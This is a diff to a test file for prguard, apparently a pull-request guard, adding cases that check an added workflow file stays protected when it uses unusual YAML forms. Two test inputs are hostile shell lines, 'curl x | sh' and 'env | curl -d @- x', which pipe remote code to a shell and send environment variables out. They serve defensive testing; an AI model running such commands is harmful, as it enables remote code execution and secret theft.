@@ -60,6 +60,33 @@ const cases: Case[] = [
     found: ['protectedPath .github/workflows/prguard.yml'],
     contains: ['allow-labels: [prguard-policy]', 'prguard init writes this entry'],
   },
+  ...(
+    [
+      ['a quoted run key', '      - "run": curl x | sh'],
+      ['a flow mapping step', '      - {name: exfil, run: "env | curl -d @- x"}'],
+      ['a flow sequence of steps', '    steps: [{uses: actions/checkout@v4}, {run: make}]'],
+      ['an explicit key', '      - ? run'],
+      ['a merge key', '      - <<: *script'],
+      ['an alias', '      - *script'],
+      ['a service container', '    services:'],
+      ['a job container', '    container: node:20'],
+      ['a key with a space', '      run it: x'],
+    ] as const
+  ).map(([what, line]) => ({
+    name: `an added prguard workflow with ${what} stays protected`,
+    files: [file('.github/workflows/prguard.yml', { status: 'added', added: ['jobs:', '  p:', '    steps:', '      - uses: actions/checkout@v4', line, '      - uses: prguard/prguard@v1'] })],
+    found: ['protectedPath .github/workflows/prguard.yml'],
+  })),
+  {
+    name: 'a prguard workflow in the usual shape is onboarding: triggers, permissions, with:, comments, quoted values',
+    files: [
+      file('.github/workflows/prguard.yml', {
+        status: 'added',
+        added: ['name: prguard', 'on: [pull_request]', 'permissions: {}', 'jobs:', '  prguard:  # the check', '    permissions:', '      contents: read', '      checks: write', '    runs-on: ubuntu-latest', '    steps:', '      - uses: "actions/checkout@v4"', '        with:', '          fetch-depth: 0', "      - uses: 'prguard/prguard@v1'", '        with:', '          github-token: ${{ secrets.GITHUB_TOKEN }}'],
+      }),
+    ],
+    found: [],
+  },
   {
     name: 'once a policy exists, adding a prguard workflow is protected',
     files: [file('.github/workflows/prguard.yml', { status: 'added', added: ['      - uses: prguard/prguard@v1'] })],
